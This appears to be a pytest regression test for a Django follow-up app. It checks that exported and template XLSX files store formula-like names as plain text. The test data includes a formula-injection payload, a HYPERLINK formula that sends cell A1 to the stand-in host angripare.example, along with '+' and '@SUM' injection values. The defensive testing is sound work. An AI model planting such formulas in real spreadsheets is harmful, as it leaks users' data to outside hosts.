"""Finding 3 of the probe: text starting with `=` became a live formula in exported XLSX, among them
the reporters' `mall.xlsx`. Every XLSX SIF writes now holds such text as inert strings."""

from __future__ import annotations

import io
from typing import Any

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from sif.web.followup import measurement_store
from sif.web.followup.xlsx import parse_workbook

pytestmark = pytest.mark.django_db
EVIL = '=HYPERLINK("http://angripare.example/?"&A1,"Klicka")'


def _formulas(data: bytes) -> list[str]:
    wb = load_workbook(io.BytesIO(data))
    return [
        f"{ws.title}!{c.coordinate}"
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.data_type == "f"
    ]


def test_the_template_and_the_export_hold_formula_like_names_as_text(
    client: Any, stis: Any
) -> None:
    stis.project.title = "+" + stis.project.title
    stis.project.save()
    stis.count.name = EVIL
    stis.count.save()
    stis.conversations.label = "@SUM(1)"
    stis.conversations.save()
    farsta = stis.districts["Farsta"]
    measurement_store.measurement_save(
        actor=stis.admin, indicator=stis.count, period=stis.period, unit=farsta, value=12
    )
    client.force_login(stis.admin)
    template = client.get(reverse("followup:template", args=[stis.project.pk, stis.period.pk]))
    export = client.get(reverse("followup:export", args=[stis.project.pk]))
    assert template.status_code == export.status_code == 200
    assert _formulas(template.content) == [] and _formulas(export.content) == []
    ws = load_workbook(io.BytesIO(template.content))["Mätvärden"]
    assert EVIL in [c.value for c in ws["B"]]
    parsed = parse_workbook(template.content, "mall.xlsx")  # the reporter's file still reads back
    assert any(m.value == 12 for m in parsed.measurements)
